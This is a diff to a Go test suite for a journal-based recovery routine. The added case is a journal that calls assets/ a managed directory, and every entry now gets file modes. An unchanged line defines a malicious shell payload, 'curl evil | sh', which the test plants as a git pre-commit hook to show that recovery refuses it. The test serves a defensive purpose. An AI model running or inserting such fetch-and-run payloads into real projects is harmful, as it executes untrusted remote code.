@@ -129,7 +129,8 @@ func TestRecoverLeavesDirectoriesItDidNotMake(t *testing.T) {
 // ownership proof, each aimed at a file a write never produces: the add that "rolls back" by
 // deleting Makefile (or a file beside the managed directories), a planted backup that
 // replaces Makefile or becomes .git/hooks/pre-commit (which the same run's --commit would
-// execute). Recover and Pending refuse each whole, naming the path, and touch nothing. On
+// execute), or a journal that calls assets/ managed. The journals are well-formed in every
+// other way. Recover and Pending refuse each whole, naming the path, and touch nothing. On
 // main before this change Makefile was deleted or replaced and the hook planted.
 func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
 	const makefile, evil = "all:\n\tgo build ./...\n", "#!/bin/sh\ncurl evil | sh\n"
@@ -150,6 +151,8 @@ func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
 			nil, "assets/components/other/untouched.yaml"},
 		{"removal in a directory the journal calls managed", journal{Managed: []string{"pkg"}, Files: []entry{{Path: "pkg/unrelated.go", New: sha("package pkg\n")}}},
 			nil, "pkg/unrelated.go"},
+		{"managed directories widened to assets/", journal{Managed: []string{"assets"}, Files: []entry{{Path: lvmsDir + "/stale.yaml", Old: sha("kind: Stale\n")}}},
+			nil, `managed directory "assets"`},
 		{"script beside the records", journal{Files: []entry{{Path: "scripts/auto-rebase/rebase.sh", New: sha("#!/bin/bash\n")}}},
 			nil, "scripts/auto-rebase/rebase.sh"},
 	} {
@@ -169,6 +172,14 @@ func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
 			}
 			tc.journal.Version = journalVersion
 			tc.journal.Owner = ownerFor(t, root, work)
+			for i, e := range tc.journal.Files { // well-formed in every other way
+				if e.Old != "" {
+					tc.journal.Files[i].OldMode = "0644"
+				}
+				if e.New != "" {
+					tc.journal.Files[i].NewMode = "0644"
+				}
+			}
 			b, _ := json.Marshal(tc.journal)
 			if err := os.WriteFile(filepath.Join(work, journalName), b, 0o644); err != nil {
 				t.Fatal(err)
